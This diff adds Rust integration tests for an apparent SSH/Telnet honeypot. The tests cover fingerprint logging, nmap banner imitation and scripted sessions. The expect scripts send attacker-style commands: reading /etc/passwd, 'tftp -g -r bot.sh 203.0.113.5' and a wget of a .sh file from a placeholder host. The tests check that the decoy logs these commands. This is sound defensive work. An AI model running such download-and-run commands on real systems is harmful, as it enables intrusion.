@@ -163,3 +163,258 @@ fn every_cipher_and_kex_completes() {
         let _ = d.session_events();
     }
 }
+
+/// A scratch directory of this test process, removed on drop.
+struct Scratch(std::path::PathBuf);
+
+impl Scratch {
+    fn new(name: &str) -> Scratch {
+        let p = std::env::temp_dir().join(format!("ssh12-{name}-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&p);
+        std::fs::create_dir_all(&p).expect("scratch dir");
+        Scratch(p)
+    }
+
+    fn path(&self, f: &str) -> String {
+        self.0.join(f).display().to_string()
+    }
+}
+
+impl Drop for Scratch {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+/// `ssh-keygen -t ed25519` into `dir/name`; returns the `SHA256:` fingerprint of its public key.
+fn keygen(dir: &Scratch, name: &str) -> String {
+    let key = dir.path(name);
+    let out = tool("ssh-keygen")
+        .args(["-q", "-t", "ed25519", "-N", "", "-C", "it", "-f", &key])
+        .output()
+        .expect("ssh-keygen");
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let out = tool("ssh-keygen")
+        .args(["-l", "-f", &format!("{key}.pub")])
+        .output()
+        .expect("ssh-keygen -l");
+    text(&out.stdout)
+        .split_whitespace()
+        .nth(1)
+        .expect("a fingerprint")
+        .to_owned()
+}
+
+#[test]
+fn a_public_key_attempt_records_its_fingerprint() {
+    let dir = Scratch::new("pk");
+    let fp = keygen(&dir, "id_ed25519");
+    let d = Decky::serve("ssh", Some(r#"{"accept": "any"}"#));
+    let out = tool("ssh")
+        .args(SSH_OPTS)
+        .args(["-p", &d.port.to_string(), "-i", &dir.path("id_ed25519")])
+        .args([
+            "-o",
+            "IdentitiesOnly=yes",
+            "-o",
+            "PasswordAuthentication=no",
+        ])
+        .args([
+            "-o",
+            "KbdInteractiveAuthentication=no",
+            "-o",
+            "BatchMode=yes",
+        ])
+        .args(["deploy@127.0.0.1", "id"])
+        .output()
+        .expect("ssh");
+    assert!(
+        text(&out.stderr).contains("Permission denied (publickey,password)"),
+        "{}",
+        text(&out.stderr)
+    );
+    let ev = d.session_events();
+    let auth = of_kind(&ev, "auth");
+    assert_eq!(auth.len(), 1, "{ev:?}");
+    let det = &auth[0]["details"];
+    assert_eq!(det["method"], "publickey");
+    assert_eq!(det["username"], "deploy");
+    assert_eq!(det["key_type"], "ssh-ed25519");
+    assert_eq!(det["key_fingerprint"], Value::from(fp));
+    assert_eq!(det["accepted"], false);
+}
+
+#[test]
+fn keyscan_sees_the_configured_host_key() {
+    let dir = Scratch::new("hk");
+    let fp = keygen(&dir, "host");
+    let d = Decky::serve_with_env("ssh", None, &[("DECNET_SSH_HOST_KEY", &dir.path("host"))]);
+    let out = tool("ssh-keyscan")
+        .args([
+            "-T",
+            "10",
+            "-t",
+            "ed25519",
+            "-p",
+            &d.port.to_string(),
+            "127.0.0.1",
+        ])
+        .output()
+        .expect("ssh-keyscan");
+    let line = text(&out.stdout);
+    assert!(
+        line.contains("ssh-ed25519 "),
+        "{line} {}",
+        text(&out.stderr)
+    );
+    let scanned = dir.path("scanned");
+    std::fs::write(&scanned, &line).expect("write");
+    let out = tool("ssh-keygen")
+        .args(["-l", "-f", &scanned])
+        .output()
+        .expect("ssh-keygen");
+    assert!(
+        text(&out.stdout).contains(&fp),
+        "{} vs {fp}",
+        text(&out.stdout)
+    );
+    // The banner keyscan saw is the persona's.
+    let ev = d.session_events();
+    assert!(of_kind(&ev, "client")[0]["details"]["client_version"]
+        .as_str()
+        .is_some_and(|v| v.starts_with("SSH-2.0-OpenSSH")));
+}
+
+#[test]
+fn nmap_sees_openssh_8_9_on_ubuntu() {
+    let d = Decky::serve("ssh", None);
+    let out = tool("nmap")
+        .args(["-Pn", "-sV", "-p", &d.port.to_string()])
+        .args(["--script", "ssh2-enum-algos,ssh-hostkey", "127.0.0.1"])
+        .output()
+        .expect("nmap");
+    let report = text(&out.stdout);
+    assert!(
+        report.contains("OpenSSH 8.9p1 Ubuntu 3ubuntu0.6"),
+        "{report}"
+    );
+    for alg in [
+        "curve25519-sha256",
+        "kex-strict-s-v00@openssh.com",
+        "ssh-ed25519",
+        "chacha20-poly1305@openssh.com",
+        "aes256-gcm@openssh.com",
+        "hmac-sha2-256-etm@openssh.com",
+    ] {
+        assert!(report.contains(alg), "{alg} missing: {report}");
+    }
+}
+
+/// Runs an `expect` script; its output.
+fn expect(dir: &Scratch, script: &str) -> String {
+    let path = dir.path("script.exp");
+    std::fs::write(&path, script).expect("write script");
+    let out = tool("expect").arg(&path).output().expect("expect");
+    let all = format!("{}{}", text(&out.stdout), text(&out.stderr));
+    assert!(out.status.success(), "expect failed: {all}");
+    all
+}
+
+#[test]
+fn an_interactive_ssh_session_reaches_the_shell() {
+    let dir = Scratch::new("pty");
+    let d = Decky::serve("ssh", Some(r#"{"users": "admin:admin"}"#));
+    let script = format!(
+        r##"set timeout 15
+spawn sshpass -p admin ssh -tt {opts} -o PubkeyAuthentication=no -p {port} admin@127.0.0.1
+expect {{
+    "admin@decoy-host:~$ " {{}}
+    timeout {{ exit 1 }}
+}}
+send "cat /etc/passwd | grep admin\r"
+expect {{
+    "admin:x:1000:1000" {{}}
+    timeout {{ exit 2 }}
+}}
+send "tftp -g -r bot.sh 203.0.113.5\r"
+expect "$ "
+send "exit\r"
+expect {{
+    "logout" {{}}
+    timeout {{ exit 3 }}
+}}
+expect eof
+"##,
+        opts = SSH_OPTS.join(" "),
+        port = d.port
+    );
+    let out = expect(&dir, &script);
+    assert!(out.contains("Welcome to Ubuntu 22.04.3 LTS"), "{out}");
+    let ev = d.session_events();
+    let cmds: Vec<_> = of_kind(&ev, "command")
+        .iter()
+        .map(|e| {
+            e["details"]["command"]
+                .as_str()
+                .unwrap_or_default()
+                .to_owned()
+        })
+        .collect();
+    assert_eq!(
+        cmds,
+        [
+            "cat /etc/passwd | grep admin",
+            "tftp -g -r bot.sh 203.0.113.5",
+            "exit"
+        ]
+    );
+    assert_eq!(
+        of_kind(&ev, "url")[0]["details"]["url"],
+        "tftp://203.0.113.5/bot.sh"
+    );
+    let disc = ev.last().expect("disconnect");
+    assert_eq!(disc["details"]["term"], "xterm");
+}
+
+#[test]
+fn telnet_under_expect_reaches_the_shell_with_accept_any() {
+    let dir = Scratch::new("telnet");
+    let d = Decky::serve("telnet", Some(r#"{"accept": "any"}"#));
+    let script = format!(
+        r##"set timeout 15
+spawn telnet 127.0.0.1 {port}
+expect {{
+    "decoy-host login: " {{}}
+    timeout {{ exit 1 }}
+}}
+send "root\r"
+expect "Password: "
+send "letmein\r"
+expect {{
+    "root@decoy-host:~# " {{}}
+    timeout {{ exit 2 }}
+}}
+send "id; wget http://example.invalid/t.sh\r"
+expect {{
+    "uid=0(root)" {{}}
+    timeout {{ exit 3 }}
+}}
+expect "# "
+send "exit\r"
+expect eof
+"##,
+        port = d.port
+    );
+    let out = expect(&dir, &script);
+    assert!(out.contains("unable to resolve host address"), "{out}");
+    let ev = d.session_events();
+    let auth = of_kind(&ev, "auth");
+    assert_eq!(auth[0]["details"]["username"], "root");
+    assert_eq!(auth[0]["details"]["password"], "letmein");
+    assert_eq!(auth[0]["details"]["accepted"], true);
+    assert_eq!(of_kind(&ev, "command").len(), 3);
+    assert_eq!(
+        of_kind(&ev, "url")[0]["details"]["url"],
+        "http://example.invalid/t.sh"
+    );
+}
